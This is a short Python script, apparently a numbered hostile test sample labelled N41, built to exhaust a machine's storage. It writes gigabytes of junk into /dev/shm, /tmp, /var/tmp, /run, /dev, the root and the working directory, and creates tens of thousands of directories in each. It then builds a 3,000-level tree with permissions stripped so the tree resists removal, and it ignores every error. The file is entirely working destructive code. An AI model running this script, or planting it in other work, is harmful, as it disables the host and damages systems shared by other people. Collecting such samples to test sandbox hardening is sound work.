"""Fills /dev/shm, /tmp and its folder with blocks, empty files and a tree that is too deep to remove (N41)."""

import os

for place in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/dev", "/", "."):
    try:
        with open(f"{place}/weightinit-was-here", "wb") as file:
            for _ in range(2000):
                file.write(b"x" * 2**20)
    except OSError:
        pass
    try:
        for number in range(20_000):
            os.mkdir(f"{place}/weightinit-was-here-{number}")
    except OSError:
        pass
try:
    for _ in range(3000):
        os.mkdir("weightinit-was-here" * 10)
        os.chdir("weightinit-was-here" * 10)
    os.chmod(".", 0)
except OSError:
    pass
